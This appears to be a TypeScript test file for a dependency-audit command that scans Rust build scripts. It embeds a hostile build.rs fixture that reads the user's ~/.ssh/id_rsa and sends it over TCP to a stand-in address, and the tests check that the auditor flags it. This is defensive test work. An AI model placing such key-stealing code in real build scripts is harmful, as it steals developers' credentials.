/**
 * The `wharf audit --build-scripts` operation end to end, in process: a project depending on
 * serde (with derive) from a real Wharf registry holding the corpus, plus a path dependency
 * with a hostile build script. The op resolves the graph, downloads and verifies the registry
 * crates through the cache, and analyses every build script and proc-macro: the hostile one
 * is reported at the marked lines and listed first, the real crates have no high finding.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { auditBuildScripts, type BuildScriptAudit } from "../../wharf/dist/ops/audit-build-scripts.js";
import {
  buildScriptAuditJson,
  renderBuildScriptAudit,
} from "../../wharf/dist/ops/audit-build-scripts-render.js";
import { Shell } from "../../wharf/dist/util/index.js";
import type { CargoRegistryClient } from "./cargo-client.js";
import { startCorpusRegistry } from "./corpus-registry.js";
import { writeTree } from "./project.js";
import { makeTempHome, WHARF_BIN } from "./run.js";
import { runAsync } from "./run-async.js";
import type { TestRegistry } from "./test-registry.js";

const home = makeTempHome("wharf-audit-build-");
let registry: TestRegistry;
let client: CargoRegistryClient;
const app = join(home.root, "app");
let audit: BuildScriptAudit;
const stderr: string[] = [];

const EVIL_BUILD = `use std::io::{Read, Write};
use std::net::TcpStream;
fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let mut key = String::new();
    let _ = std::fs::File::open(format!("{}/.ssh/id_rsa", home)).and_then(|mut f| f.read_to_string(&mut key));
    if let Ok(mut s) = TcpStream::connect("203.0.113.7:4444") { let _ = s.write_all(key.as_bytes()); }
}
`;

before(async () => {
  ({ registry, client } = await startCorpusRegistry(home));
  writeTree(app, {
    "Cargo.toml": `[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nserde = { version = "1", features = ["derive"] }\nevil = { path = "evil" }\n`,
    "src/main.rs": "fn main() {}\n",
    "evil/Cargo.toml": `[package]\nname = "evil"\nversion = "0.1.0"\nedition = "2021"\n`,
    "evil/src/lib.rs": "",
    "evil/build.rs": EVIL_BUILD,
  });
  const ctx = {
    cwd: app,
    env: { ...client.env, WHARF_HOME: home.wharfHome },
    shell: new Shell({ stdout: { write: () => true }, stderr: { write: (s: string) => stderr.push(s) } }),
    globals: { config: [], offline: false, locked: false, frozen: false, unstable: [] },
  };
  audit = await auditBuildScripts(ctx, {});
});
after(async () => {
  await registry?.close();
  home.cleanup();
});

describe("auditBuildScripts over a resolved graph", () => {
  test("analyses the build scripts and proc-macros of registry and path packages", () => {
    const targets = audit.packages.map((p) => `${p.name} ${p.analysis.target}`);
    for (const t of [
      "evil build-script",
      "proc-macro2 build-script",
      "serde build-script",
      "serde_derive proc-macro",
    ]) {
      assert.ok(targets.includes(t), `${t} in ${targets.join(", ")}`);
    }
    assert.deepEqual(audit.skipped, []);
    assert.match(stderr.join(""), /Analyzed \d+ build scripts and 1 proc-macro crate/);
    assert.ok(!existsSync(join(app, "Cargo.lock")), "the audit does not write the lock file");
  });

  test("the hostile build script is reported at the right lines and severities", () => {
    const evil = audit.packages.find((p) => p.name === "evil");
    assert.ok(evil);
    assert.deepEqual(
      evil.analysis.findings.map((f) => `${f.file}:${f.line} ${f.rule}/${f.severity}`).sort(),
      [
        "build.rs:2 network/high",
        "build.rs:4 secret-env/high",
        "build.rs:6 credential-path/high",
        "build.rs:6 path-read/high",
        "build.rs:7 network/high",
      ],
    );
    assert.equal(audit.highest, "high");
  });

  test("no registry crate has a high finding; the listing puts the hostile package first", () => {
    const high = audit.packages.filter(
      (p) => p.name !== "evil" && p.analysis.findings.some((f) => f.severity === "high"),
    );
    assert.deepEqual(high, []);
    const text = renderBuildScriptAudit(audit);
    assert.match(
      text,
      /^evil v0\.1\.0 \(build script\)\n {2}high {3}network {8}build\.rs:2 {2}uses TcpStream/,
    );
    assert.match(text, /targets analysed: 5 high, \d+ medium, \d+ info/);
    const json = JSON.parse(buildScriptAuditJson(audit)) as { counts: { high: number }; packages: unknown[] };
    assert.equal(json.counts.high, 5);
    assert.equal(json.packages.length, audit.packages.length);
  });

  test("`wharf audit --build-scripts` lists them and fails CI at the chosen severity", async () => {
    const env = { ...client.env, WHARF_HOME: home.wharfHome };
    const high = await runAsync(process.execPath, [WHARF_BIN, "audit", "--build-scripts"], {
      cwd: app,
      env,
      timeoutMs: 300_000,
    });
    assert.equal(high.status, 1, high.stderr);
    assert.match(high.stdout, /^evil v0\.1\.0 \(build script\)/m);
    assert.match(high.stderr, /5 build-script or proc-macro findings at or above `high`/);
    const bad = await runAsync(
      process.execPath,
      [WHARF_BIN, "audit", "--build-scripts", "--severity", "loud"],
      {
        cwd: app,
        env,
        timeoutMs: 60_000,
      },
    );
    assert.equal(bad.status, 2);
  });
});
